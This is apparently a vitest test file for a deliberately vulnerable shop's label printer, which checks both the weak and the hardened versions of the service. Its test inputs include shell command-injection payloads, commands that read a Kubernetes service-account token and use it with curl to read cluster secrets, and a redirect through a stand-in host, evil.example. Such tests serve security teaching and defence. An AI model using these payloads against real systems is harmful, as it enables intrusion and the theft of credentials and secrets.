import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest'
import { putHostedPage } from '../../shop/fake-network/rented-hosts.ts'
import {
  closeTestApplication,
  openTestApplication,
  type TestApplication,
  type Visitor,
} from '../../testing/application.ts'
import { newCustomer, type TestCustomer } from '../../testing/customers.ts'
import { accountToken, base64, clusterSecrets, manifestOf, mayReach } from './cluster.ts'
import { servicePin } from './routes.ts'

let application: TestApplication
let visitor: Visitor
let eve: TestCustomer

beforeAll(async () => {
  application = await openTestApplication()
  visitor = application.visitor('labels')
  eve = await newCustomer(visitor)
})
afterAll(() => closeTestApplication(application))

const print = (body: object, headers = eve.headers) => visitor.post('/rest/labels', body, { headers })
const shopOf = () => application.host.open('labels')
const printed = async (text: string, size = 'M') => (await print({ text, size })).json().data.printed

describe('a label', () => {
  it('is printed as written, in three sizes', async () => {
    for (const size of ['S', 'M', 'L']) {
      const answer = await print({ text: 'Plum & Quince;\n  Käthe’s, 5 $', size })
      expect(answer.json().data).toEqual({ size, printed: 'Plum & Quince;\n  Käthe’s, 5 $' })
    }
    expect(await printed('two\r\nlines')).toBe('two\nlines')
  })

  it('is printed with any text if no shell interprets it', async () => {
    const shop = await shopOf()
    await shop.setLiveVersion('label-command', 'no-shell-at-all')
    const odd = `"$(id)"; \`id\` \\ 'x' $HOME --size L\n#`
    expect(await printed(odd)).toBe(odd)
    expect(await printed('x', 'M; id')).toBe('There is no such size.')
    await shop.setLiveVersion('label-command', 'weak')
  })

  it('has a limited length, and requires a login', async () => {
    const wrong = [
      {},
      { text: 'x' },
      { text: ' \n', size: 'M' },
      { text: 'x'.repeat(201), size: 'M' },
      { text: 'x', size: 'M'.repeat(201) },
      { text: ['x'], size: 'M' },
      { text: 'x', size: { $ne: 'M' } },
    ]
    for (const body of wrong) expect((await print(body)).statusCode, JSON.stringify(body)).toBe(400)
    expect((await visitor.post('/rest/labels', { text: 'x', size: 'M' })).statusCode).toBe(401)
  })

  it('reports errors of the printer', async () => {
    expect(await printed('a " b')).toContain('Unterminated quoted string')
    expect(await printed('x', 'XL')).toBe('labelmaker: no such size: XL')
  })

  it('emits an event with the author if the PIN was printed', async () => {
    const shop = await shopOf()
    const pin = servicePin(shop)
    expect(pin).toMatch(/^\d{4}-\d{3}-\d{3}$/)
    expect(servicePin(await application.host.open('another'))).not.toBe(pin)
    const events: unknown[] = []
    shop.on((event, payload) => {
      if (event === 'label.printed') events.push(payload)
    })
    expect(await printed('$(cat /etc/labelmaker.conf)')).toContain(pin)
    expect(await printed(`PIN ${pin}`)).toBe(`PIN ${pin}`)
    expect(await printed('cat /etc/labelmaker.conf')).not.toContain(pin)
    expect(events).toMatchObject([
      { holdsServicePin: true, isPinTyped: false },
      { holdsServicePin: true, isPinTyped: true },
      { holdsServicePin: false, isPinTyped: false },
    ])
  })
})

describe('the cluster of the printer', () => {
  const FOLDER = '/var/run/secrets/kubernetes.io/serviceaccount'
  const API = 'https://kubernetes.default.svc'
  const withToken = `curl -s -H "Authorization: Bearer $(cat ${FOLDER}/token)"`
  const ask = (path: string, program = withToken, host = API) => printed(`$(${program} ${host}${path})`)
  const useFix = async (name: string) => (await shopOf()).setLiveVersion('open-cluster', name)
  afterEach(() => useFix('weak'))

  it('answers with what the role of the account allows', async () => {
    expect(await ask('/api/v1/namespaces/juice/pods')).toContain('"pulp-pay-')
    expect(await ask('/api/v1/namespaces/juice/configmaps/label-printer')).toContain('"S M L"')
    expect(await ask('/api/v1/namespaces/juice/secrets/nothing')).toContain(
      '"secrets \\"nothing\\" not found"',
    )
    expect(await ask('/api/v1/namespaces/kube-system/secrets')).toContain('"Forbidden"')
    expect(await ask('/api/v1/secrets')).toContain('at the cluster scope')
    expect(await ask('/api/v1/namespaces')).toContain('"Forbidden"')
    expect(await ask('/api/v1/namespaces/juice/secrets?watch=1')).toContain('cannot watch')
    expect(await ask('/apis/apps/v1/deployments')).toContain('"NotFound"')
    expect(await ask('/api/v1/namespaces/juice/pods', `${withToken} -X DELETE`)).toContain('MethodNotAllowed')
  })

  it('answers strangers with 403, and made-up tokens with 401', async () => {
    expect(await ask('/api', 'curl -s')).toContain('system:anonymous')
    expect(await ask('/version', 'curl -s')).toContain('"major"')
    expect(await ask('/api', 'curl -s -H "Authorization: Bearer x"')).toContain('"code": 401')
    const stranger = accountToken(await application.host.open('another'))
    expect(await ask('/api', `curl -s -H "Authorization: Bearer ${stranger.slice(-60)}"`)).toContain('401')
  })

  it('has secrets of its own in each shop, which are found in an output', async () => {
    const [one, other] = [await shopOf(), await application.host.open('another')]
    const keyOf = (shop: typeof one) => clusterSecrets(shop).get('pulp-pay')?.['api-key'] ?? ''
    expect(keyOf(one)).not.toBe(keyOf(other))
    const events: unknown[] = []
    one.on((event, payload) => {
      if (event === 'label.printed') events.push(payload)
    })
    await ask('/api/v1/namespaces/juice/secrets/pulp-pay')
    await ask('/api/v1/namespaces/juice/secrets/fridge-camera')
    await printed(base64(keyOf(one)))
    await printed(keyOf(other))
    expect(events).toMatchObject([
      { holdsClusterSecret: true, isSecretTyped: false },
      { holdsClusterSecret: false, isSecretTyped: false },
      { holdsClusterSecret: true, isSecretTyped: true },
      { holdsClusterSecret: false, isSecretTyped: false },
    ])
  })

  it('follows the manifest that is live', async () => {
    await useFix('not-the-list')
    expect(await ask('/api/v1/namespaces/juice/secrets')).toContain('cannot list')
    await useFix('other-namespace')
    expect(await ask('/api/v1/secrets')).toContain('api-key')
    expect(await ask('/api/v1/namespaces/labels/pods')).toContain('label-printer')
    await useFix('read-only-root')
    expect(await printed('$(echo x > note; cat note)')).toContain('EROFS')
    await useFix('least-of-all')
    expect(await printed(`$(ls ${FOLDER})`)).toContain('No such file')
    expect(await printed(`$(curl ${API}/version)`)).toContain('curl: (28)')
    expect(await printed('$(curl http://peelprint.juice.svc/)')).toContain('Peelprint 3')
    expect(await printed('Plum', 'L')).toBe('Plum')
  })

  it('is not reached through a redirect that the network policy forbids', async () => {
    const shop = await shopOf()
    putHostedPage(shop, {
      host: 'evil.example',
      path: '/',
      status: 302,
      headers: { location: `${API}/version` },
      body: '',
    })
    expect(await printed('$(curl -sL http://evil.example/)')).toContain('"major"')
    const { networkPolicy: _, ...manifest } = manifestOf(shop)
    const policed = { ...manifest, networkPolicy: { egress: ['*.example'] } }
    expect([mayReach(policed, 'evil.example'), mayReach(policed, 'kubernetes.default.svc')]).toEqual([
      true,
      false,
    ])
  })
})
